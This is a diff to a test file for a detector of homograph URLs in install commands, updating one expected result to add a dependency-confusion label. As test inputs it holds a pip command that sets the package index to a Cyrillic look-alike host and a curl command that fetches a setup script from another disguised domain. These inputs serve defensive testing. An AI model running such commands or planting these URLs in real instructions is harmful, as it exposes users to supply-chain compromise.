@@ -71,7 +71,7 @@ describe('look-alike letters in what gets installed or fetched', () => {
   });
 
   it('a URL host written only in look-alike letters is a homograph', () => {
-    assert.deepEqual(flagged('```bash\npip config set global.index-url https://рурі.org/simple\n```\n'), ['disguised_command']);
+    assert.deepEqual(flagged('```bash\npip config set global.index-url https://рурі.org/simple\n```\n'), ['dependency_confusion', 'disguised_command']);
     assert.deepEqual(flagged('Mirror: `curl -fsSL https://ѕсоре.dev/setup.sh -o setup.sh`\n'), ['disguised_command']);
   });
 
